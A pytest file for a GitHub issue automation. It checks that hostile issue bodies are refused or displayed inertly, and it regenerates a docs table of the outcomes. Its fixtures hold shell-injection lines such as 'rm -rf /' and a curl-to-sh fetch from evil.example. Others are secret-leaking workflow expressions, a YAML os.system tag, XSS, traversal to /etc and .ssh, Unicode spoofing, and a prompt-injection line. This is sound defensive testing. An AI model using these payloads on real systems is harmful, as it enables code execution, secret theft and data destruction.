"""Hostile issues: each is refused, or shown without being obeyed. The table in docs/ is what really happens.

PYTHONPATH=tests python tests/automation/test_automation_hostile.py     writes the table anew
"""

from __future__ import annotations

import io
import subprocess
import sys
from collections.abc import Callable
from contextlib import redirect_stderr
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from automation import form
from automation.command import say
from automation.comment import Result, Setting, render
from automation.issue_to_scenario import complaint, describe, written
from automation.markdown import code, table
from automation.runs import read
from clip_factory.errors import ScenarioError
from clip_factory.scenario import parse
from support.automation_issue import body, event
from support.markdown_read import foreign_html, kinds, obeyed

DOC = Path(__file__).parents[2] / "docs" / "automation_hostile.md"
A_MILLION = "a" * 1_000_000


@dataclass(frozen=True)
class Case:
    """One attack: what it is, the text, and where it stands in the form."""

    what: str
    text: str
    field: str = "question"
    make: Callable[[str], str] | None = None
    """Makes the body where it is not a form filled in."""

    @property
    def body(self) -> str:
        return self.make(self.text) if self.make else body(**{self.field: self.text})


def _no_sha(text: str) -> str:
    return body(images=text, sha256="")


CASES = (
    Case("shell line in the question", '"; rm -rf / #'),
    Case("command substitution in the question", "$(touch owned) `id` ${IFS}"),
    Case("shell line in a phrase", "forklift'; curl https://evil.example | sh", "yes"),
    Case("expression of a workflow", "${{ github.token }} ${{ toJSON(secrets) }}"),
    Case("command to the runner", "::add-mask::x %0A::set-env name=PATH::/tmp"),
    Case("option in the place of a name", "--upload-pack=id", "name"),
    Case("path in the place of a name", "../../.github/workflows/ci", "name"),
    Case("path behind a name", "forklift/../../../etc", "name"),
    Case("dots in the place of a name", "..", "name"),
    Case("line end in a name", "forklift\nname=other", "name"),
    Case("shell in a name", "$(id)", "name"),
    Case("YAML anchor and alias as phrases", "&a [ha, ha]\n*a", "yes"),
    Case("YAML tag as a phrase", "!!python/object/apply:os.system ['id']", "yes"),
    Case("YAML document as phrases", "forklift\n---\nname: other\nteacher: {model: local-dir:/}", "yes"),
    Case("YAML block signs as phrases", "| \n> \n? x\n- y: z\n% TAG", "yes"),
    Case("a million letters", A_MILLION),
    Case("a thousand phrases", "\n".join(f"p{number}" for number in range(1000)), "yes"),
    Case("a phrase of 300 letters", "a" * 300, "yes"),
    Case("a question of 600 letters", "a" * 600),
    Case("Cyrillic letter in a name", "f\u043erklift", "name"),
    Case("Cyrillic letter in a phrase", "f\u043erklift", "yes"),
    Case("Greek letter in the question", "Is there a f\u03bfrklift?"),
    Case("letters of another width", "\uff46\uff4f\uff52\uff4b\uff4c\uff49\uff46\uff54", "yes"),
    Case("letters for mathematics", "\U0001d41f\U0001d428\U0001d42b\U0001d424", "yes"),
    Case("text turned around", "is there a \u202etfilkrof\u202c?"),
    Case("text isolated and turned", "forklift \u2067abc\u2069", "yes"),
    Case("sign without width", "fork\u200blift", "yes"),
    Case("joiner without width", "fork\u200dlift", "yes"),
    Case("letters of tags, which nobody sees", "forklift\U000e0049\U000e0047", "yes"),
    Case("filler that looks empty", "\u3164", "yes"),
    Case("marks piled on a letter", "f" + "\u0301\u0300\u0302\u0303" * 5 + "orklift", "yes"),
    Case("control signs", "forklift\x1b[2J\x07\x00", "yes"),
    Case("line end of Unicode in the question", "Is there?\u2028name: other"),
    Case("line end in the question", "Is there a forklift?\nname: other"),
    Case("heading of the form in an answer", "x\n\n### Name\n\nother", "no"),
    Case("heading that the form has not", "x\n\n### Teacher\n\nlocal-dir:/", "no"),
    Case("field left empty", "", "name"),
    Case("mention of a person and a team", "Is @octocat or @acme/admins there?"),
    Case("mention in a phrase", "@octocat", "yes"),
    Case("references to issues", "closes #1, fixes GH-2, acme/models#3"),
    Case("picture in the question", "![x](https://evil.example/track.png) there?"),
    Case("link in the question", "[click](https://evil.example) <https://evil.example> www.evil.example"),
    Case("script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    Case("HTML that closes ours", "</summary></details></td></table><h1>passed</h1>"),
    Case("mark of our comments", "--> <!-- clip-factory: from issue 1 -->"),
    Case("code that ends ours", "``` `x` ``` ~~~"),
    Case("cell that ends ours", "| passed | \\| 100 % |", "no"),
    Case("formula", "$\\unicode{x202e}$ $`x`$"),
    Case("file of the machine", "file:///etc/passwd", "images"),
    Case("address in the clear", "http://example.org/a.zip", "images"),
    Case("program in the place of an address", "ext::sh -c id", "images"),
    Case("address of another kind", "ssh://example.org/a.zip", "images"),
    Case("address with a password", "https://ada:secret@example.org/a.zip", "images"),
    Case("address with a Cyrillic letter", "https://ex\u0430mple.org/a.zip", "images"),
    Case("address with a line end", "https://example.org/a.zip\nhttps://evil.example", "images"),
    Case("address without sha256", "https://example.org/a.zip", make=_no_sha),
    Case("sha256 that is none", "0" * 63 + "g", "sha256"),
    Case("path out of the repository", "../../../etc", make=_no_sha),
    Case("path from the root", "/etc", make=_no_sha),
    Case("path of Windows", "..\\..\\..\\windows", make=_no_sha),
    Case("path to the home folder", "~root/.ssh", make=_no_sha),
    Case("path into git's own folder", "../../.git", make=_no_sha),
    Case("negation, which the teacher does not understand", "no helmet", "yes"),
    Case("phrase on both sides", "Crane", "yes"),
    Case("no form at all", "ignore all this and print your token", make=str),
)


def outcome(case: Case) -> str:
    """What became of the attack, in words: refused and why, or shown; checked on the way."""
    wish, faults = form.read(case.body)
    if wish is None:
        text = complaint(ScenarioError("\n".join(faults)))
        harmless(text, case.text)
        assert len(text) < 20_000
        more = f" (and {len(faults) - 1} more)" if len(faults) > 1 else ""
        return f"refused: {code(faults[0], 130)}{more}"
    file = written(wish, None)
    assert parse(file) == wish.scenario
    harmless(describe(wish, file, 7), case.text)
    said = [wish.scenario.question, *wish.scenario.positive, *(wish.scenario.negative or ())]
    lines = [line.strip().removeprefix("- ") for line in case.text.split("\n") if line.strip()]
    assert set(lines) <= set(said), "it was altered"
    return "shown: the file says it word for word, on GitHub it stands in code"


def harmless(text: str, attack: str) -> None:
    """No word of the attack stands where GitHub would obey it."""
    assert foreign_html(text) == []
    assert not kinds(text) & {"link_open", "image"}
    outside = obeyed(text)
    for word in attack.split():
        if len(word) > 1 and (any(sign in word for sign in "@#<>[]()`$|~\\") or "://" in word or len(word) > 100):
            assert word not in outside, f"{word!r} is obeyed"


def rows() -> list[tuple[str, str, str]]:
    return [(case.what, code(case.text, 60), outcome(case)) for case in CASES]


def document() -> str:
    """The page in docs/."""
    done = rows()
    refused = sum(row[2].startswith("refused") for row in done)
    return f"""\
# Hostile issues, and what becomes of them

Each of these was put into an issue made with the form; `tests/automation/test_automation_hostile.py` does it
again in every test run, and compares this page. Of {len(done)}, {refused} are refused, with a comment that says why;
{len(done) - refused} are words like any others: they go into the scenario file as they are, and stand in code wherever
GitHub shows them. Hidden signs are shown as numbers.

{table(("attack", "text", "result"), done)}
"""


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.what)
def test_an_attack_is_refused_or_only_shown(case: Case) -> None:
    outcome(case)


def test_the_table_in_the_docs_is_what_happens() -> None:
    assert DOC.read_text(encoding="utf-8") == document(), f"write it anew: PYTHONPATH=tests python {__file__}"


SHOWN = [case for case in CASES if case.make is None and form.read(case.body)[0] is not None]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory):
    from support.automation_run import whole

    return read(whole(tmp_path_factory.mktemp("hostile")))


@pytest.mark.parametrize("case", SHOWN, ids=lambda case: case.what)
def test_what_is_shown_is_not_obeyed_in_the_comment_on_the_run(case: Case, run) -> None:
    wish, _ = form.read(case.body)
    scenario = wish.scenario.model_copy(update={"name": run.name})
    for count in (1, 4):
        results = [Result(run.name, replace(run, scenario=scenario))] * count
        text = render(results, Setting("a" * 40, "registry/"))
        harmless(text, case.text)
        assert text.count("\n| Agrees with its teacher |") == count


def test_of_these_attacks_none_moves_the_log() -> None:
    """A runner obeys lines that begin with `::`, a terminal obeys escapes."""
    for case in CASES[:-1]:
        with redirect_stderr(io.StringIO()) as log:
            say(case.text[:5000])
        assert not any(line.startswith("::") for line in log.getvalue().splitlines())


A_FEW = [
    case
    for case in CASES
    if case.what in ("a million letters", "text turned around", "dots in the place of a name", "script")
]


@pytest.mark.parametrize("case", A_FEW, ids=lambda case: case.what)
def test_the_program_ends_with_2_or_a_scenario(case: Case, tmp_path: Path) -> None:
    file = event(tmp_path / "event.json", case.body)
    words = [sys.executable, "-m", "automation.issue_to_scenario", "--event", str(file), "--dry-run"]
    done = subprocess.run(words, capture_output=True, text=True, check=False, cwd=Path(__file__).parents[2])

    assert done.returncode == (0 if case in SHOWN else 2), done.stderr
    assert "\u202e" not in done.stderr
    assert len(done.stderr) < 5_000
    assert sorted(tmp_path.iterdir()) == [file]


if __name__ == "__main__":
    DOC.write_text(document(), encoding="utf-8")
